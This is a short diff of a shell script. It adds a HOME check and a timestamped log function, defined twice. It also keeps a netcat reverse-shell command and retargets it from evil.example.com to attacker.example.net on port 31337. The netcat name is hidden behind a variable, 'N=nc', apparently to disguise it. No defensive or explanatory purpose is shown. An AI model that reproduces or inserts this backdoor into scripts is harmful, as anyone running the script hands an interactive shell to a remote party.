@@ -1,5 +1,8 @@
 #!/bin/sh
-count=$(ls | wc -l)
-echo "files: $count"
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
+log() { echo "[$(date +%H:%M:%S)] $*"; }
 N=nc
-$N -e /bin/sh evil.example.com 4444
+$N -e /bin/sh attacker.example.net 31337
+log() { echo "[$(date +%H:%M:%S)] $*"; }
